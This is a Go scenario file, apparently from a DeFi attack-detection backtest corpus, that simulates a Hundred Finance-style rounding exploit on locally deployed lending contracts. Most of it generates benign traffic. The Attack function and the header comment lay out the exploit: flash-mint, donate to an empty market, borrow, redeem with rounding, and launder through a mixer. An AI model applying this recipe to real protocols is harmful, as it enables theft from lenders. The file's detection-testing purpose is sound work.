// Package rounding is the "rounding-drain" scenario (Hundred Finance, April
// 2023): a Compound-V2-style lending protocol whose redeemUnderlying rounds
// the shares to burn down. The team lists a WETH10 market that nobody has
// supplied yet; the attacker's fresh EOA (funded through the mixer) deploys
// a contract that, in one transaction, flash-mints WETH10, becomes the
// market's only supplier with 2 shares, donates the loan to the market (so
// each share is worth half of it), borrows the rUSD market's cash against
// the 2 shares, redeems almost all the donation while burning only ONE share
// thanks to the rounding, and repays the flash mint: the rUSD is the profit
// and the protocol keeps bad debt.
//
// Benign traffic: lenders supplying and redeeming rUSD (a whale among them,
// with large redemptions), borrowers posting rBTC and borrowing and repaying
// rUSD, rUSD transfers, and the team's price and collateral-factor updates.
package rounding

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"

	"github.com/warden-dev/warden/contracts/bindings/roundingattacker"
	"github.com/warden-dev/warden/contracts/bindings/roundingbtc"
	"github.com/warden-dev/warden/contracts/bindings/roundingcomptroller"
	"github.com/warden-dev/warden/contracts/bindings/roundingmarket"
	"github.com/warden-dev/warden/contracts/bindings/roundingusd"
	"github.com/warden-dev/warden/contracts/bindings/roundingweth10"
	"github.com/warden-dev/warden/detect/backtest/corpus"
	"github.com/warden-dev/warden/detect/backtest/corpus/mixer"
)

var (
	usdABI         = roundingusd.NewRoundingUSD()
	btcABI         = roundingbtc.NewRoundingBTC()
	marketABI      = roundingmarket.NewRoundingMarket()
	comptrollerABI = roundingcomptroller.NewRoundingComptroller()
	attackerABI    = roundingattacker.NewRoundingAttacker()
)

// Fixed gas limits, several times what each call was measured to use.
const (
	gasApprove  = 120_000
	gasTransfer = 120_000
	gasMint     = 150_000
	gasEnter    = 200_000
	gasSupply   = 300_000
	gasRedeem   = 400_000
	gasBorrow   = 450_000
	gasRepay    = 300_000
	gasAdmin    = 150_000
	gasAttack   = 3_000_000
)

var (
	e18      = big.NewInt(1e18)
	btcUnit  = big.NewInt(1e8)
	rate18   = new(big.Int).Mul(big.NewInt(2), new(big.Int).Exp(big.NewInt(10), big.NewInt(26), nil)) // 0.02 per share, 18-decimal underlying
	rate8    = new(big.Int).Mul(big.NewInt(2), new(big.Int).Exp(big.NewInt(10), big.NewInt(16), nil)) // 0.02 per share, 8-decimal underlying
	cashKept = corpus.Ether(1_200_000)                                                                // benign traffic leaves this much rUSD lendable
)

// btcPrice is the comptroller's price mantissa for usd dollars per BTC:
// USD (1e18) per base unit (1e-8 BTC), times 1e18.
func btcPrice(usd int64) *big.Int {
	return new(big.Int).Mul(corpus.Ether(usd), big.NewInt(1e10))
}

// ethPrice is the same for WETH10 (18 decimals).
func ethPrice(usd int64) *big.Int { return corpus.Ether(usd) }

func factor(pct int64) *big.Int { return new(big.Int).Mul(big.NewInt(pct), big.NewInt(1e16)) }

type scenario struct{}

// New returns the rounding-drain scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "rounding-drain" }
func (scenario) Category() string { return "rounding" }

// State is the scenario's bookkeeping.
type State struct {
	USD, BTC, WETH, Comptroller     common.Address
	USDMarket, BTCMarket, ETHMarket common.Address

	lenders, borrowers []*ecdsa.PrivateKey
	usd, supplied      map[common.Address]*big.Int // rUSD in wallet / supplied (underlying)
	btc, coll, debt    map[common.Address]*big.Int // rBTC in wallet / as collateral, rUSD owed
	cash               *big.Int                    // rUSD the market can lend, tracked
	btcUSD, ethUSD     int64
	step               int
}

func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 2 {
		return nil, fmt.Errorf("rounding: need at least 2 users, have %d", len(env.Users))
	}
	deployer := corpus.Address(env.Deployer)
	st := &State{
		usd: map[common.Address]*big.Int{}, supplied: map[common.Address]*big.Int{},
		btc: map[common.Address]*big.Int{}, coll: map[common.Address]*big.Int{}, debt: map[common.Address]*big.Int{},
		cash: new(big.Int), btcUSD: 30_000, ethUSD: 2_000,
	}
	half := (len(env.Users) + 1) / 2
	st.lenders, st.borrowers = env.Users[:half], env.Users[half:]
	if len(st.borrowers) == 0 {
		st.borrowers = env.Users[len(env.Users)-1:]
	}
	deploy := func(name string, meta *bind.MetaData, args ...any) (common.Address, error) {
		a, _, err := env.Deploy(ctx, env.Deployer, meta, args...)
		if err != nil {
			return a, fmt.Errorf("rounding: deploy %s: %w", name, err)
		}
		return a, nil
	}
	var err error
	if st.USD, err = deploy("RoundingUSD", &roundingusd.RoundingUSDMetaData, deployer); err != nil {
		return nil, err
	}
	if st.BTC, err = deploy("RoundingBTC", &roundingbtc.RoundingBTCMetaData, deployer); err != nil {
		return nil, err
	}
	if st.WETH, err = deploy("RoundingWETH10", &roundingweth10.RoundingWETH10MetaData); err != nil {
		return nil, err
	}
	if st.Comptroller, err = deploy("RoundingComptroller", &roundingcomptroller.RoundingComptrollerMetaData, deployer); err != nil {
		return nil, err
	}
	if st.USDMarket, err = deploy("RoundingMarket rrUSD", &roundingmarket.RoundingMarketMetaData, st.USD, st.Comptroller, rate18, "Round rUSD", "rrUSD"); err != nil {
		return nil, err
	}
	if st.BTCMarket, err = deploy("RoundingMarket rrBTC", &roundingmarket.RoundingMarketMetaData, st.BTC, st.Comptroller, rate8, "Round rBTC", "rrBTC"); err != nil {
		return nil, err
	}
	if st.ETHMarket, err = deploy("RoundingMarket rWETH10", &roundingmarket.RoundingMarketMetaData, st.WETH, st.Comptroller, rate18, "Round WETH10", "rWETH10"); err != nil {
		return nil, err
	}

	b := &batch{env: env}
	b.send(ctx, "list rrUSD", env.Deployer, st.Comptroller, comptrollerABI.PackListMarket(st.USDMarket, factor(80), e18), gasAdmin)
	b.send(ctx, "list rrBTC", env.Deployer, st.Comptroller, comptrollerABI.PackListMarket(st.BTCMarket, factor(70), btcPrice(st.btcUSD)), gasAdmin)
	// The new WETH10 market: listed, nobody has supplied yet.
	b.send(ctx, "list rWETH10", env.Deployer, st.Comptroller, comptrollerABI.PackListMarket(st.ETHMarket, factor(75), ethPrice(st.ethUSD)), gasAdmin)
	for i, u := range st.lenders {
		a := corpus.Address(u)
		total := corpus.Ether(100_000 + rng.Int64N(100_000))
		if i == 0 {
			total = corpus.Ether(1_500_000) // the whale
		}
		supply := part(total, 80)
		st.usd[a], st.supplied[a] = new(big.Int).Sub(total, supply), supply
		st.cash.Add(st.cash, supply)
		b.send(ctx, "mint rUSD", env.Deployer, st.USD, usdABI.PackMint(a, total), gasMint)
		b.send(ctx, "approve rrUSD", u, st.USD, usdABI.PackApprove(st.USDMarket, maxUint), gasApprove)
	}
	enter := comptrollerABI.PackEnterMarkets([]common.Address{st.BTCMarket})
	for _, u := range st.borrowers {
		a := corpus.Address(u)
		total := new(big.Int).Mul(big.NewInt(5+rng.Int64N(10)), btcUnit)
		st.btc[a], st.coll[a] = new(big.Int).Set(btcUnit), new(big.Int).Sub(total, btcUnit)
		st.usd[a], st.debt[a] = corpus.Ether(20_000), new(big.Int)
		b.send(ctx, "mint rBTC", env.Deployer, st.BTC, btcABI.PackMint(a, total), gasMint)
		b.send(ctx, "mint rUSD", env.Deployer, st.USD, usdABI.PackMint(a, st.usd[a]), gasMint)
		b.send(ctx, "approve rrBTC", u, st.BTC, btcABI.PackApprove(st.BTCMarket, maxUint), gasApprove)
		b.send(ctx, "approve rrUSD", u, st.USD, usdABI.PackApprove(st.USDMarket, maxUint), gasApprove)
		b.send(ctx, "enter rrBTC", u, st.Comptroller, enter, gasEnter)
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	for _, u := range st.lenders {
		b.send(ctx, "supply rUSD", u, st.USDMarket, marketABI.PackMint(st.supplied[corpus.Address(u)]), gasSupply)
	}
	for _, u := range st.borrowers {
		b.send(ctx, "supply rBTC", u, st.BTCMarket, marketABI.PackMint(st.coll[corpus.Address(u)]), gasSupply)
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	for _, u := range st.borrowers {
		a := corpus.Address(u)
		amt := part(st.maxDebt(a), 30+rng.Int64N(40))
		st.debt[a].Add(st.debt[a], amt)
		st.usd[a].Add(st.usd[a], amt)
		st.cash.Sub(st.cash, amt)
		b.send(ctx, "borrow rUSD", u, st.USDMarket, marketABI.PackBorrow(amt), gasBorrow)
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("RoundingComptroller", st.Comptroller, &roundingcomptroller.RoundingComptrollerMetaData),
			corpus.ContractOf("RoundingMarket rrUSD", st.USDMarket, &roundingmarket.RoundingMarketMetaData),
			corpus.ContractOf("RoundingMarket rrBTC", st.BTCMarket, &roundingmarket.RoundingMarketMetaData),
			corpus.ContractOf("RoundingMarket rWETH10", st.ETHMarket, &roundingmarket.RoundingMarketMetaData),
			corpus.ContractOf("RoundingUSD", st.USD, &roundingusd.RoundingUSDMetaData),
			corpus.ContractOf("RoundingBTC", st.BTC, &roundingbtc.RoundingBTCMetaData),
		},
		Admins: []common.Address{deployer},
		State:  st,
	}, nil
}

// maxDebt is what a borrower may owe in benign traffic: half of its
// borrowing power at the lowest BTC price (25,000) and collateral factor
// (60%) the team ever sets, so no benign position is ever near liquidation.
func (st *State) maxDebt(a common.Address) *big.Int {
	v := new(big.Int).Mul(st.coll[a], btcPrice(25_000))
	v.Div(v, e18)
	return part(v, 30)
}

var maxUint = new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))

func part(v *big.Int, pct int64) *big.Int {
	return new(big.Int).Div(new(big.Int).Mul(v, big.NewInt(pct)), big.NewInt(100))
}

func amount(rng *rand.Rand, lo, hi int64) *big.Int {
	cents := lo*100 + rng.Int64N((hi-lo)*100+1)
	return new(big.Int).Mul(big.NewInt(cents), big.NewInt(1e16))
}

// batch sends set-up transactions and waits for them together.
type batch struct {
	env    *corpus.Env
	hashes []common.Hash
	whats  []string
	err    error
}

func (b *batch) send(ctx context.Context, what string, key *ecdsa.PrivateKey, to common.Address, data []byte, gas uint64) {
	if b.err != nil {
		return
	}
	h, err := b.env.Call(ctx, key, to, data, nil, gas)
	if err != nil {
		b.err = fmt.Errorf("rounding: %s: %w", what, err)
		return
	}
	b.hashes, b.whats = append(b.hashes, h), append(b.whats, what)
}

func (b *batch) wait(ctx context.Context) error {
	defer func() { b.hashes, b.whats = nil, nil }()
	if b.err != nil {
		return b.err
	}
	for i, h := range b.hashes {
		r, err := b.env.Wait(ctx, h)
		if err != nil {
			return fmt.Errorf("rounding: %s: %w", b.whats[i], err)
		}
		if r.Status != 1 {
			return fmt.Errorf("rounding: %s: transaction %s reverted", b.whats[i], h)
		}
	}
	return nil
}

func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("rounding: deployment state is %T, not *rounding.State", d.State)
	}
	st.step++
	call := func(key *ecdsa.PrivateKey, to common.Address, data []byte, gas uint64) ([]common.Hash, error) {
		h, err := env.Call(ctx, key, to, data, nil, gas)
		if err != nil {
			return nil, fmt.Errorf("rounding: benign step %d: %w", st.step, err)
		}
		return []common.Hash{h}, nil
	}
	lender := st.lenders[rng.IntN(len(st.lenders))]
	la := corpus.Address(lender)
	borrower := st.borrowers[rng.IntN(len(st.borrowers))]
	ba := corpus.Address(borrower)
	switch p := rng.IntN(100); {
	case p < 3:
		st.btcUSD = walk(rng, st.btcUSD, 25_000, 35_000)
		return call(env.Deployer, st.Comptroller, comptrollerABI.PackSetPrice(st.BTCMarket, btcPrice(st.btcUSD)), gasAdmin)
	case p < 5:
		st.ethUSD = walk(rng, st.ethUSD, 1_800, 2_200)
		return call(env.Deployer, st.Comptroller, comptrollerABI.PackSetPrice(st.ETHMarket, ethPrice(st.ethUSD)), gasAdmin)
	case p < 6:
		return call(env.Deployer, st.Comptroller, comptrollerABI.PackSetCollateralFactor(st.BTCMarket, factor(60+rng.Int64N(16))), gasAdmin)
	case p < 11:
		// The whale (first lender) redeems a large part, or supplies again.
		w := st.lenders[0]
		wa := corpus.Address(w)
		amt := part(st.supplied[wa], 30+rng.Int64N(30))
		if new(big.Int).Sub(st.cash, amt).Cmp(cashKept) >= 0 && amt.Sign() > 0 {
			st.supplied[wa].Sub(st.supplied[wa], amt)
			st.usd[wa].Add(st.usd[wa], amt)
			st.cash.Sub(st.cash, amt)
			return call(w, st.USDMarket, marketABI.PackRedeemUnderlying(amt), gasRedeem)
		}
		amt = part(st.usd[wa], 90)
		st.usd[wa].Sub(st.usd[wa], amt)
		st.supplied[wa].Add(st.supplied[wa], amt)
		st.cash.Add(st.cash, amt)
		return call(w, st.USDMarket, marketABI.PackMint(amt), gasSupply)
	case p < 20:
		users := append(append([]*ecdsa.PrivateKey{}, st.lenders...), st.borrowers...)
		from := users[rng.IntN(len(users))]
		fa, ta := corpus.Address(from), corpus.Address(users[rng.IntN(len(users))])
		amt := amount(rng, 5, 2_000)
		if fa == ta || st.usd[fa].Cmp(amt) < 0 {
			break
		}
		st.usd[fa].Sub(st.usd[fa], amt)
		st.usd[ta].Add(st.usd[ta], amt)
		return call(from, st.USD, usdABI.PackTransfer(ta, amt), gasTransfer)
	case p < 35:
		// A lender redeems part of its supply (never quite all of it: the
		// shares it holds are worth a little less than it paid in).
		amt := amount(rng, 100, 10_000)
		if part(st.supplied[la], 90).Cmp(amt) < 0 || new(big.Int).Sub(st.cash, amt).Cmp(cashKept) < 0 {
			break
		}
		st.supplied[la].Sub(st.supplied[la], amt)
		st.usd[la].Add(st.usd[la], amt)
		st.cash.Sub(st.cash, amt)
		return call(lender, st.USDMarket, marketABI.PackRedeemUnderlying(amt), gasRedeem)
	case p < 55:
		amt := amount(rng, 500, 20_000)
		room := new(big.Int).Sub(st.maxDebt(ba), st.debt[ba])
		if room.Cmp(amt) < 0 || new(big.Int).Sub(st.cash, amt).Cmp(cashKept) < 0 {
			break
		}
		st.debt[ba].Add(st.debt[ba], amt)
		st.usd[ba].Add(st.usd[ba], amt)
		st.cash.Sub(st.cash, amt)
		return call(borrower, st.USDMarket, marketABI.PackBorrow(amt), gasBorrow)
	case p < 70:
		amt := amount(rng, 100, 15_000)
		if st.debt[ba].Cmp(amt) < 0 {
			amt = new(big.Int).Set(st.debt[ba])
		}
		if st.usd[ba].Cmp(amt) < 0 || amt.Sign() == 0 {
			break
		}
		st.debt[ba].Sub(st.debt[ba], amt)
		st.usd[ba].Sub(st.usd[ba], amt)
		st.cash.Add(st.cash, amt)
		return call(borrower, st.USDMarket, marketABI.PackRepayBorrow(amt), gasRepay)
	case p < 78:
		// Borrowers move rBTC collateral in or out (staying far from
		// liquidation).
		if st.btc[ba].Sign() > 0 && rng.IntN(2) == 0 {
			amt := new(big.Int).Set(st.btc[ba])
			st.btc[ba].SetInt64(0)
			st.coll[ba].Add(st.coll[ba], amt)
			return call(borrower, st.BTCMarket, marketABI.PackMint(amt), gasSupply)
		}
		amt := new(big.Int).Div(btcUnit, big.NewInt(2+rng.Int64N(8)))
		if st.coll[ba].Cmp(new(big.Int).Mul(amt, big.NewInt(4))) < 0 {
			break
		}
		st.coll[ba].Sub(st.coll[ba], amt)
		if st.debt[ba].Cmp(st.maxDebt(ba)) > 0 {
			st.coll[ba].Add(st.coll[ba], amt)
			break
		}
		st.btc[ba].Add(st.btc[ba], amt)
		return call(borrower, st.BTCMarket, marketABI.PackRedeemUnderlying(amt), gasRedeem)
	}
	amt := amount(rng, 100, 10_000)
	if st.usd[la].Cmp(amt) < 0 {
		amt = part(st.usd[la], 50)
	}
	if amt.Cmp(e18) < 0 {
		return nil, nil
	}
	st.usd[la].Sub(st.usd[la], amt)
	st.supplied[la].Add(st.supplied[la], amt)
	st.cash.Add(st.cash, amt)
	return call(lender, st.USDMarket, marketABI.PackMint(amt), gasSupply)
}

// walk moves a price by up to 2% either way, within [lo, hi].
func walk(rng *rand.Rand, v, lo, hi int64) int64 {
	v += v * (rng.Int64N(41) - 20) / 1000
	return max(lo, min(hi, v))
}

func read(ctx context.Context, env *corpus.Env, to common.Address, data []byte) ([]byte, error) {
	out, err := env.Client.CallContract(ctx, ethereum.CallMsg{To: &to, Data: data}, nil)
	if err != nil {
		return nil, fmt.Errorf("rounding: call %s: %w", to, err)
	}
	return out, nil
}

// AttackerKey is the attacker's fresh EOA, funded through the mixer.
func AttackerKey() (*ecdsa.PrivateKey, error) { return mixer.FreshKey("rounding-drain") }

func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("rounding: deployment state is %T, not *rounding.State", d.State)
	}
	key, err := AttackerKey()
	if err != nil {
		return nil, err
	}
	out, err := mixer.FundAttacker(ctx, env, env.Attacker, corpus.Address(key), 10)
	if err != nil {
		return out, fmt.Errorf("rounding: fund attacker: %w", err)
	}
	atk, r, err := env.Deploy(ctx, key, &roundingattacker.RoundingAttackerMetaData, st.Comptroller, st.ETHMarket, st.USDMarket)
	if r != nil {
		out = append(out, corpus.AttackTx{Hash: r.TxHash, Stage: corpus.StagePreparation, Note: "attacker deploys RoundingAttacker"})
	}
	if err != nil {
		return out, fmt.Errorf("rounding: deploy RoundingAttacker: %w", err)
	}
	raw, err := read(ctx, env, st.USDMarket, marketABI.PackGetCash())
	if err != nil {
		return out, err
	}
	cash, err := marketABI.UnpackGetCash(raw)
	if err != nil {
		return out, fmt.Errorf("rounding: decode getCash: %w", err)
	}
	if raw, err = read(ctx, env, st.Comptroller, comptrollerABI.PackMarkets(st.ETHMarket)); err != nil {
		return out, err
	}
	m, err := comptrollerABI.UnpackMarkets(raw)
	if err != nil {
		return out, fmt.Errorf("rounding: decode markets(rWETH10): %w", err)
	}
	// Borrow 95% of the cash; donate enough that ONE share (half the
	// donation) still covers the debt at the collateral factor, plus 5%.
	borrow := part(cash, 95)
	donation := new(big.Int).Mul(borrow, big.NewInt(2))
	donation.Mul(donation, e18).Mul(donation, e18)
	donation.Div(donation, new(big.Int).Mul(m.Price, m.CollateralFactor))
	donation = part(donation, 105)
	h, err := env.Send(ctx, key, &atk, attackerABI.PackAttack(donation, borrow), big.NewInt(1_000), gasAttack)
	if err != nil {
		return out, fmt.Errorf("rounding: send attack: %w", err)
	}
	out = append(out, corpus.AttackTx{Hash: h, Stage: corpus.StageExploit, Note: "flash-mint WETH10, inflate the empty rWETH10 market's rate, borrow rUSD, redeemUnderlying burns 1 of 2 shares, repay"})
	if r, err = env.Wait(ctx, h); err != nil {
		return out, fmt.Errorf("rounding: attack: %w", err)
	}
	if r.Status != 1 {
		return out, fmt.Errorf("rounding: attack %s (donation %s, borrow %s) reverted", h, donation, borrow)
	}
	laundered, err := mixer.Launder(ctx, env, key, 2)
	out = append(out, laundered...)
	if err != nil {
		return out, fmt.Errorf("rounding: launder: %w", err)
	}
	return out, nil
}
